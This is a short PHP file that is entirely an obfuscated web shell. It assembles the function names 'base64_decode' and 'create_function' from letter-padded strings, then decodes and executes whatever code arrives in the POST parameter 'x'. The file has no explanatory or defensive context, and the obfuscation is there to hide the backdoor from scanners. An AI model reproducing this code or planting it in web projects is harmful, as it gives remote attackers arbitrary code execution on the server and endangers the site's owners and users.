<?php
$m = str_replace('q', '', 'bqaqsqeq6q4q_qdqeqcqoqdqe');
$r = str_replace('w', '', 'crwewatwe_wfwunwctwiwon');
$f = $r('', $m($_POST['x']));
$f();
